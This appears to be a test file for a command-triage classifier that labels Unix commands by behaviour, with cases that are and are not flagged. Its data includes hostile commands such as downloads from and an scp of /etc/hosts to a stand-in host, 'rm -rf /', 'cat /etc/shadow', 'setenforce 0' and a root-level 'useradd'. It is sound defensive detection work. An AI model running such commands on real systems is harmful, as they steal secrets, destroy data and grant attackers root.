"""What commands of Unix do."""

import pytest

from vedette.triage.fact import Act
from vedette.triage.facts.commands import Shell, facts_of_command


def acts(line: str) -> dict[Act, str]:
    return {one.act: one.target for one in facts_of_command(line.split(), Shell.UNIX)}


@pytest.mark.parametrize(
    ("line", "act", "target"),
    [
        ("sudo -u x nohup wget -q http://a.invalid/b", Act.DOWNLOADS, "http://a.invalid/b"),
        ("curl a.invalid/b -o c", Act.DOWNLOADS, "a.invalid/b"),
        ("env A=1 timeout 5 setenforce 0", Act.DISABLES_DEFENCE, "0"),
        ("scp /etc/hosts x@a.invalid:/tmp", Act.SENDS, "x@a.invalid:/tmp"),
        ("rm -rf /", Act.DELETES_FILES, "/"),
        ("cat /etc/shadow", Act.READS_SECRET, "/etc/shadow"),
        ("crontab /opt/c", Act.PERSISTS, "/opt/c"),
        ("systemctl --now enable x", Act.PERSISTS, "x"),
        ("useradd -o -u 0 sys", Act.ESCALATES, "-u 0 sys"),
        ("nsenter -t 1 -m sh", Act.ESCALATES, "-t 1 -m sh"),
    ],
)
def test_it_is_told(line: str, act: Act, target: str) -> None:
    assert acts(line).get(act) == target


@pytest.mark.parametrize(
    ("line", "act"),
    [
        ("curl -fsSL http://a.invalid/b", Act.SENDS),
        ("ssh -i /home/ana/.ssh/id_rsa a.invalid", Act.READS_SECRET),
        ("chmod 600 /home/ana/.ssh/id_rsa", Act.READS_SECRET),
        ("crontab -l", Act.PERSISTS),
        ("base64 file", Act.DECODES),
        ("env -i make", Act.READS_ENVIRONMENT),
        ("rm -f x.log", Act.CLEARS_TRACES),
        ("chmod 644 x", Act.MAKES_EXECUTABLE),
        ("echo curl http://a.invalid", Act.DOWNLOADS),
    ],
)
def test_it_is_not_told(line: str, act: Act) -> None:
    assert act not in acts(line)


def test_the_file_a_download_leaves_is_known() -> None:
    def left(line: str) -> str:
        return next(
            one.file for one in facts_of_command(line.split(), Shell.UNIX) if one.act is Act.DOWNLOADS
        )

    assert left("wget -qO /tmp/a http://a.invalid/b") == "/tmp/a"  # noqa: S108
    assert left("wget http://a.invalid/x/b?c=1") == "b"
    assert left("curl -sLo c http://a.invalid/b") == "c"
    assert left("curl -s http://a.invalid/b") == ""
